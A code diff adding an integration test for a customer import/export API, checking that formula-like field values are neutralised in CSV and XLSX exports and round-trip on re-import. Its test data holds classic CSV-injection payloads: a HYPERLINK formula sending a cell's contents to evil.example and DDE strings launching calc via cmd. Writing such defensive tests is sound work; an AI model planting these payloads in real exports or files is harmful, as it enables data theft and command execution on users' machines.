@@ -408,6 +408,57 @@ describe('customer import and export', () => {
     );
     expect(contact).toEqual([{ name: '王建国' }]);
   });
+
+  it('writes formula-looking text to CSV with a leading apostrophe, to XLSX as typed text, and imports the CSV back unchanged', async () => {
+    // Each a classic CSV-injection payload (OWASP): a spreadsheet would run them if written as they are.
+    const payload = {
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"点击")注入测试有限公司',
+      shortName: '+注入',
+      address: "-2+3+cmd|' /C calc'!A0",
+      description: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      legalRepresentative: '=1+1',
+    };
+    const created = await t.http
+      .post('/api/v1/customers')
+      .auth(admin, { type: 'bearer' })
+      .send({ ...payload, industry: 'it', phone: '0523-86660001' });
+    expect(created.status).toBe(201);
+    const contact = await t.http.post(`/api/v1/customers/${created.body.id}/contacts`).auth(admin, { type: 'bearer' }).send({ name: '=1+2', mobile: '13866660001' });
+    expect(contact.status).toBe(201);
+    const query = `q=${created.body.code}`;
+
+    const file = await t.http.get(`/api/v1/customers/export?format=csv&${query}`).auth(admin, { type: 'bearer' });
+    expect(file.status).toBe(200);
+    const [headers, ...rows] = parse(file.text.replace(/^\uFEFF/, '')) as string[][];
+    expect(rows).toHaveLength(1);
+    const cell = (h: string) => rows[0][headers.indexOf(h)];
+    expect(cell('客户名称')).toBe(`'${payload.name}`);
+    expect(cell('简称')).toBe(`'${payload.shortName}`);
+    expect(cell('地址')).toBe(`'${payload.address}`);
+    expect(cell('客户描述')).toBe(`'${payload.description}`);
+    expect(cell('法定代表人')).toBe(`'${payload.legalRepresentative}`);
+    expect(cell('联系人')).toBe("'=1+2");
+    // No cell of the file starts like a formula; harmless cells are untouched.
+    expect(rows[0].filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cell('电话')).toBe('0523-86660001');
+
+    const xlsx = await t.http.get(`/api/v1/customers/export?format=xlsx&${query}`).auth(admin, { type: 'bearer' }).buffer(true).parse(binary);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[0];
+    const header = (sheet.getRow(1).values as unknown[]).map(String);
+    const nameCell = sheet.getRow(2).getCell(header.indexOf('客户名称'));
+    expect(nameCell.type).toBe(ExcelJS.ValueType.String);
+    expect(nameCell.value).toBe(payload.name);
+    expect(sheet.getRow(2).getCell(header.indexOf('地址')).value).toBe(payload.address);
+
+    // The exported CSV imports back as it was entered, without the apostrophes.
+    await softDeleteCustomersWhere(t, `id = '${created.body.id}'`);
+    const back = await upload(admin, Buffer.from(file.text), '', 'customers.csv');
+    expect(back.body.totals).toEqual({ created: 1, updated: 0, duplicate: 0, rejected: 0 });
+    const again = (await t.http.get(`/api/v1/customers?q=${encodeURIComponent('注入测试')}`).auth(admin, { type: 'bearer' })).body.items;
+    expect(again).toEqual([expect.objectContaining(payload)]);
+  });
 });
 
 /** Minimal GB18030 encoder for the test: asks the platform decoder which two bytes give each character. */
